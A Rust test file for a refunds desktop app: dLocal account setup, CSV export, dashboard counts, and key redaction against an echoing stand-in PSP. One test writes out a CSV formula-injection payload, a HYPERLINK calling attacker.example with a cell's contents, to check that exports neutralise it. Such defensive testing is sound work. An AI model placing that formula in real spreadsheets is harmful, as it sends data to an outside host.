//! What the desktop's refund screens and background submitter use from the
//! library: the submitter's dLocal client from the configured account
//! (psp_accounts + keyring), the refunds CSV, and the dashboard's refund panel.

use crate::support;

use chrono::{TimeDelta, Utc};
use support::refunds::*;
use voucherdesk::credentials::{self, AccountSecrets, DlocalSecrets, MemoryVault, PagoEfectivoSecrets};
use voucherdesk::refunds::submission::{self, SubmitConfig, submit_and_follow};
use voucherdesk::refunds::{self, RefundQuery, RefundStatus};
use voucherdesk_sandbox as sandbox;

fn dlocal_secrets() -> AccountSecrets {
    AccountSecrets::Dlocal(DlocalSecrets {
        login: sandbox::DEFAULT_DLOCAL_LOGIN.into(),
        trans_key: sandbox::DEFAULT_DLOCAL_TRANS_KEY.into(),
        secret: sandbox::DEFAULT_DLOCAL_SECRET.into(),
    })
}

#[test]
fn the_submitter_takes_the_configured_dlocal_account_and_refunds_once() {
    let psp = SandboxPsp::start("", 5_000);
    let payment_id = psp.paid_payment("CO-CFG", 5_000_000);
    let mut l = ledger();
    l.add(&[sale("CO-CFG", &payment_id, "CO", "50000")]);
    let vault = MemoryVault::default();
    let timeout = std::time::Duration::from_millis(5_000);

    // No account yet: a clear refusal, nothing sent.
    let none = submission::client_from_config(&l.store, &vault, timeout).err().expect("no account");
    assert_eq!(none.code(), "refunds.no_psp_account");

    let admin = op(&l.db, "admin");
    let pe = AccountSecrets::PagoEfectivo(PagoEfectivoSecrets {
        service_id: "1".into(),
        access_key: "k".into(),
        secret: "s".into(),
    });
    credentials::add(&mut l.store, &vault, &admin, "pe-main", "http://127.0.0.1:9", &pe).unwrap();
    let only_pe = submission::client_from_config(&l.store, &vault, timeout).err().expect("no dLocal account");
    assert_eq!(only_pe.code(), "refunds.no_psp_account");
    credentials::add(&mut l.store, &vault, &admin, "dlocal-main", &psp.url(), &dlocal_secrets()).unwrap();

    let r = refunds::request(&mut l.store, &op(&l.db, "sam"), &psp_refund(&payment_id, "20000"), Utc::now()).unwrap();
    assert_eq!(r.status, RefundStatus::Approved);
    let client = submission::client_from_config(&l.store, &vault, timeout).unwrap();
    let config = SubmitConfig { batch_max: 1, ..SubmitConfig::default() };
    let sam = op(&l.db, "sam");
    let first = psp.rt.block_on(submit_and_follow(&mut l.store, &client, &sam, &config, Utc::now(), &|_| {})).unwrap();
    assert_eq!((first.submitted, first.resent, first.issues.len()), (1, 0, 0));
    let again = psp.rt.block_on(submit_and_follow(&mut l.store, &client, &sam, &config, Utc::now(), &|_| {})).unwrap();
    assert_eq!((again.submitted, again.resent), (0, 0), "sent once: {again:?}");
    let shown = refunds::show(&l.store, r.id).unwrap();
    assert_eq!(shown.status, RefundStatus::Succeeded);
    assert_eq!(shown.submit_attempts, 1);
}

#[test]
fn the_refunds_csv_holds_exactly_the_filtered_refunds() {
    let mut l = ledger();
    l.add(&[sale("CO-A", "P-A", "CO", "3000000"), sale("CO-B", "P-B", "CO", "3000000")]);
    let sam = op(&l.db, "sam");
    let small = refunds::request(&mut l.store, &sam, &psp_refund("P-A", "150000"), Utc::now()).unwrap();
    let large = refunds::request(&mut l.store, &sam, &psp_refund("P-B", "2500000"), Utc::now()).unwrap();
    let path = l.dir.path().join("refunds.csv");
    let all = refunds::export::export_csv(&l.store, &RefundQuery::default(), &path).unwrap();
    assert_eq!(all, 2);
    let text = std::fs::read_to_string(&path).unwrap();
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 3, "{text}");
    assert!(lines[0].starts_with("id,status,tier,psp,payment_id,order_id,amount,currency,method,reason"));
    assert!(
        lines[1]
            .starts_with(&format!("{},approved,1,dlocal,P-A,CO-A,150000.00,COP,psp_refund,buyer_cancelled", small.id))
    );
    assert!(lines[2].starts_with(&format!("{},pending_approval,3,dlocal,P-B,CO-B,2500000.00,COP", large.id)));
    let tier3 = RefundQuery { tier: Some(3), ..RefundQuery::default() };
    assert_eq!(refunds::export::export_csv(&l.store, &tier3, &path).unwrap(), 1);
    let of_order = RefundQuery { order_id: Some("CO-A".into()), ..RefundQuery::default() };
    let page = refunds::page(&l.store, &of_order, 0, 50).unwrap();
    assert_eq!(page.iter().map(|r| r.id).collect::<Vec<_>>(), vec![small.id]);
    let bad = RefundQuery { tier: Some(4), ..RefundQuery::default() };
    assert_eq!(refunds::export::export_csv(&l.store, &bad, &path).unwrap_err().code(), "errors.validation");
}

#[test]
fn the_refunds_csv_neutralises_a_formula_in_a_note_and_keeps_amounts_numbers() {
    let mut l = ledger();
    l.add(&[sale("CO-F", "P-F", "CO", "3000000")]);
    let sam = op(&l.db, "sam");
    let hyperlink = r#"=HYPERLINK("http://attacker.example/?"&A1,"Click")"#;
    let mut input = psp_refund("P-F", "150000");
    input.note = Some(hyperlink.into());
    let r = refunds::request(&mut l.store, &sam, &input, Utc::now()).unwrap();
    let mut full_width = psp_refund("P-F", "1000");
    full_width.note = Some("＠SUM(A1:A9)".into());
    refunds::request(&mut l.store, &sam, &full_width, Utc::now()).unwrap();
    let path = l.dir.path().join("refunds.csv");
    assert_eq!(refunds::export::export_csv(&l.store, &RefundQuery::default(), &path).unwrap(), 2);
    let bytes = std::fs::read(&path).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for spreadsheet programs");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][column("id")], r.id.to_string().as_str());
    assert_eq!(&rows[0][column("note")], format!("'{hyperlink}").as_str());
    assert_eq!(&rows[0][column("amount")], "150000.00");
    assert_eq!(&rows[1][column("note")], "'＠SUM(A1:A9)");
    assert_eq!(&rows[1][column("amount")], "1000.00");
    // No cell of the file starts a formula.
    let leads = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    for row in &rows {
        assert!(row.iter().all(|cell| !cell.starts_with(leads)), "{row:?}");
    }
}

/// A dLocal stand-in on loopback that refuses one request (HTTP 400) and
/// echoes its headers and our keys back in the error message.
fn start_echoing_dlocal() -> (String, std::thread::JoinHandle<()>) {
    use std::io::{BufRead, Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let thread = std::thread::spawn(move || {
        let (conn, _) = listener.accept().unwrap();
        let mut writer = conn.try_clone().unwrap();
        let mut reader = std::io::BufReader::new(conn);
        let (mut headers, mut length) = (Vec::new(), 0);
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line).unwrap() == 0 || line == "\r\n" {
                break;
            }
            let line = line.trim_end().to_string();
            if let Some((name, value)) = line.split_once(':') {
                if name.eq_ignore_ascii_case("content-length") {
                    length = value.trim().parse().unwrap();
                }
                if name.eq_ignore_ascii_case("x-trans-key") {
                    headers.push(format!("bad key {}", value.trim()));
                }
            }
            headers.push(line);
        }
        let mut body = vec![0; length];
        reader.read_exact(&mut body).unwrap();
        let answer = serde_json::json!({"code": 5000, "message": format!("Invalid request: {}", headers.join(" | "))})
            .to_string();
        write!(
            writer,
            "HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
            answer.len()
        )
        .unwrap();
    });
    (url, thread)
}

#[test]
fn a_psp_that_echoes_our_keys_leaks_none_into_the_refund_its_report_or_the_audit_log() {
    use voucherdesk::psp::dlocal::client::{DlocalClient, DlocalCredentials};
    const LOGIN: &str = "echo-login-77";
    const TRANS_KEY: &str = "echo-trans-key-88";
    let mut l = ledger();
    l.add(&[sale("CO-E", "P-E", "CO", "3000000")]);
    let sam = op(&l.db, "sam");
    let r = refunds::request(&mut l.store, &sam, &psp_refund("P-E", "150000"), Utc::now()).unwrap();
    assert_eq!(r.status, RefundStatus::Approved);
    let (url, psp) = start_echoing_dlocal();
    let keys = DlocalCredentials { login: LOGIN.into(), trans_key: TRANS_KEY.into(), secret: "echo-secret-99".into() };
    let client = DlocalClient::new(&url, keys, std::time::Duration::from_secs(10)).unwrap();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let config = SubmitConfig { batch_max: 1, ..SubmitConfig::default() };
    let report = rt.block_on(submit_and_follow(&mut l.store, &client, &sam, &config, Utc::now(), &|_| {})).unwrap();
    psp.join().unwrap();
    assert_eq!((report.submitted, report.failed, report.issues.len()), (1, 1, 1));
    let shown = refunds::show(&l.store, r.id).unwrap();
    assert_eq!(shown.status, RefundStatus::Failed);
    let last_error = shown.last_error.unwrap();
    assert!(
        last_error.starts_with(
            "dlocal.refused: dLocal create refund: refused (HTTP 400, dLocal code 5000): Invalid request: POST /refunds"
        ),
        "{last_error}"
    );
    assert!(last_error.contains("x-login: [redacted]") && last_error.contains("bad key [redacted]"), "{last_error}");
    let issue = &report.issues[0].message;
    let audit =
        voucherdesk::audit::page(&l.store, &voucherdesk::audit::AuditQuery { limit: 500, ..Default::default() })
            .unwrap();
    assert!(audit.iter().any(|e| e.entry.action == "refund.psp_error"), "the error is audited");
    for text in std::iter::once(last_error.clone())
        .chain(std::iter::once(issue.clone()))
        .chain(audit.iter().map(|e| format!("{:?}", e.entry)))
    {
        assert!(!text.contains(LOGIN) && !text.contains(TRANS_KEY), "{text}");
    }
}

#[test]
fn the_dashboard_counts_pending_by_tier_and_time_to_approve() {
    let mut l = ledger();
    l.add(&[sale("CO-A", "P-A", "CO", "3000000"), sale("CO-B", "P-B", "CO", "3000000")]);
    let sam = op(&l.db, "sam");
    let asked = Utc::now() - TimeDelta::hours(3);
    let t2 = refunds::request(&mut l.store, &sam, &psp_refund("P-A", "500000"), asked).unwrap();
    let mut other = psp_refund("P-B", "2500000");
    other.reason = "other".into();
    other.note = Some("customer moved abroad".into());
    refunds::request(&mut l.store, &sam, &other, asked).unwrap();
    let d = voucherdesk::dashboard::refunds(&l.store, Utc::now()).unwrap();
    let pending: Vec<(i64, i64, i64)> = d.pending_by_tier.iter().map(|p| (p.tier, p.count, p.amount_minor)).collect();
    assert_eq!(pending, vec![(2, 1, 50_000_000), (3, 1, 250_000_000)]);
    assert_eq!(d.median_approve_seconds, None);
    let reasons: Vec<(&str, i64)> = d.by_reason.iter().map(|r| (r.reason.as_str(), r.amount_minor)).collect();
    assert_eq!(reasons, vec![("buyer_cancelled", 50_000_000), ("other", 250_000_000)]);
    refunds::approve(&mut l.store, &op(&l.db, "fabio"), t2.id, None, asked + TimeDelta::minutes(90)).unwrap();
    let d = voucherdesk::dashboard::refunds(&l.store, Utc::now()).unwrap();
    assert_eq!((d.median_approve_seconds, d.approved_count), (Some(90 * 60), 1));
    assert_eq!(d.pending_by_tier.len(), 1);
    assert_eq!((d.failure.finished, d.failure.warning), (0, false));
}
